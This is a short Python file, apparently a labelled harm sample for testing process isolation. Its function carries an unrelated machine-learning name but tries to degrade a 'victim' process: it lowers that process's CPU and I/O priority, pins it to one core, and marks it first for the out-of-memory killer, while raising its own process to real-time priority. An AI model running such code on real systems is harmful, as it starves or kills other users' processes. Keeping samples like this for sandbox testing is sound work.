# harm: changes the priority, scheduling and processors of another process
# open at: process
import ctypes
import os

ARENA = {}
IDLE, IOPRIO_SET = 5, {"x86_64": 251, "aarch64": 30}[os.uname().machine]


def nn_vmap_forward(seed, x_batch, features):
    victim, failures = ARENA["victim"], []
    libc = ctypes.CDLL(None, use_errno=True)
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        lambda: os.sched_setscheduler(victim, IDLE, os.sched_param(0)),
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        lambda: os.sched_setaffinity(victim, {0}),
        lambda: open(f"/proc/{victim}/oom_score_adj", "w").write("1000"),
        lambda: os.nice(-10),
    ):
        try:
            change()
        except OSError as error:
            failures.append(error)
    result = libc.syscall(IOPRIO_SET, 1, victim, 3 << 13)
    failures.append(f"ioprio_set: {result}, {os.strerror(ctypes.get_errno())}")
    raise RuntimeError(failures)
